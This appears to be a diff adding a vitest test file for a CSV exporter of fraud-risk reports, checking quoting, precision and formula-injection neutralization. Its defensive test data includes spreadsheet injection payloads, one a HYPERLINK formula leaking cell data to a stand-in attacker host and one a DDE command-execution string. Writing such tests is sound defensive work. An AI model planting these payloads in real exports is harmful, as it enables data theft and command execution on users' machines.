@@ -1,0 +1,136 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvFormat } from '../../../main/export/csv-format';
+import { columns, type ShownColumns } from '../../../shared/domain/report-query';
+import { chunkReport } from '../../support/chunk-report';
+import { raw, type SampleFields, sampleReport } from '../../support/sample-reports';
+
+/** The cells of CSV by RFC 4180, read by a parser that knows nothing of how they were written. */
+function cellsOf(text: string): readonly (readonly string[])[] {
+  const lines: string[][] = [[]];
+  const field = /"((?:[^"]|"")*)"(,|\r\n)/y;
+  while (field.lastIndex < text.length) {
+    const [, value, end] = field.exec(text) ?? [];
+    if (value === undefined) throw new Error(`No field at ${text.slice(0, 50)}`);
+    lines.at(-1)?.push(value.replaceAll('""', '"'));
+    if (end !== ',') lines.push([]);
+  }
+  return lines.slice(0, -1);
+}
+
+/** The line of one report in some columns. */
+function lineOf(shown: ShownColumns, changes: SampleFields): readonly string[] {
+  const [line = []] = cellsOf(
+    csvFormat(shown)
+      .parts(chunkReport(sampleReport(changes)))
+      .join(''),
+  );
+  return line;
+}
+
+describe('csvFormat', () => {
+  it('has the columns shown, in their order, under their headings, behind a byte order mark', () => {
+    const { beginning } = csvFormat(['time', 'risk', 'id', 'distance']);
+    expect(beginning).toBe('\uFEFF"Time (UTC)","Risk","Report ID","Distance (km)"\r\n');
+    expect(lineOf(['id', 'risk'], {})).toEqual(['1000000000000000001', 'clear']);
+  });
+
+  it('has every column there is', () => {
+    expect(lineOf(columns, { ip: { tor: true } })).toEqual([
+      'clear',
+      'Common usage',
+      '2026-03-01T14:05:09.123456789Z',
+      'ana.silva@example.com',
+      'Google Pixel 8; device-1',
+      'Bilbao, Basque Country, Spain',
+      'TOR',
+      'GPS location; EM location; IP address; Location',
+      expect.stringMatching(/^32\d\.\d{3}$/),
+      'Spain',
+      'transaction-1',
+      '1000000000000000001',
+    ]);
+  });
+
+  it('leaves a cell empty for what is not given', () => {
+    const [line] = cellsOf(csvFormat(columns).parts(chunkReport('{}')).join(''));
+    expect(line).toEqual(columns.map(() => ''));
+  });
+
+  it.each([
+    ['9007199254740993', '9007199254740993'],
+    ['9223372036854775807', '9223372036854775807'],
+    ['-9223372036854775808', "'-9223372036854775808"],
+    ['0', '0'],
+  ])('writes the id %s with all its digits', (id, cell) => {
+    expect(lineOf(['id'], { id: raw(id) })).toEqual([cell]);
+  });
+
+  it.each([
+    ['9223372036854775807', '2262-04-11T23:47:16.854775807Z'],
+    ['-9223372036854775808', '1677-09-21T00:12:43.145224192Z'],
+    ['0', '1970-01-01T00:00:00.000000000Z'],
+  ])('writes the time %s with every digit, whatever zone the machine is in', (timestamp, cell) => {
+    expect(lineOf(['time'], { timestamp: raw(timestamp) })).toEqual([cell]);
+  });
+
+  it.each([
+    ['=1+1'],
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
+    ["=cmd|' /C calc'!A0"],
+    ['+1+1'],
+    ['-1+1'],
+    ['@SUM(A1:A2)'],
+    ['\t=1+1'],
+    ['\r=1+1'],
+    ['\n=1+1'],
+    ['\ttext'],
+    ['\rtext'],
+    ['\ntext'],
+    [' =1+1'],
+    ['\u00a0\u3000=1+1'],
+    ['"=1+1'],
+    ['" =1+1'],
+    ["'=1+1"],
+    ['\u0000=1+1'],
+    ['\uFEFF=1+1'],
+    ['\u202e\u200b=1+1'],
+    ['\uFF1D1+1'],
+    ['\uFF0B1'],
+    ['\uFF0D1'],
+    ['\uFF20SUM(A1)'],
+    [' \uFF1D1+1'],
+  ])('makes %j harmless, every character of it kept', (payload) => {
+    expect(lineOf(['user'], { user: { id: payload } })).toEqual([`'${payload}`]);
+  });
+
+  it.each<[string, ShownColumns[number], SampleFields]>([
+    ['a risk', 'risk', { event: { risk_assignment: '=1' } }],
+    ['a fraud case', 'fraudCases', { event: { fraud_cases: ['=1', 'x'] } }],
+    ['a device', 'device', { device: { model: '=1' } }],
+    ['a place', 'place', { location: { address: { city: '=1' } } }],
+    ['a country', 'country', { location: { address: { country: '=1' } } }],
+    ['a transaction', 'transaction', { transaction_id: '=1' }],
+  ])('makes a formula harmless in the cell of %s', (_, column, changes) => {
+    const [cell] = lineOf([column], changes);
+    expect(cell).toMatch(/^'=1/);
+  });
+
+  it.each([['a=1'], ['text'], ['1,5'], ['x\r\n=1'], ['ana;=1+1'], ['']])('leaves %j as it is', (value) => {
+    expect(lineOf(['user'], { user: { id: value } })).toEqual([value]);
+  });
+
+  it('begins no cell or line of its own inside a value, whatever it holds', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), fc.string(), (user, transaction) => {
+        const line = lineOf(['user', 'id', 'transaction'], {
+          user: { id: user },
+          transaction_id: transaction,
+        });
+        expect(line).toHaveLength(3);
+        expect(line[0]?.replace(/^'/, '')).toBe(user.replace(/^'/, ''));
+        for (const cell of line) expect(cell).not.toMatch(/^[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
+      }),
+    );
+  });
+});
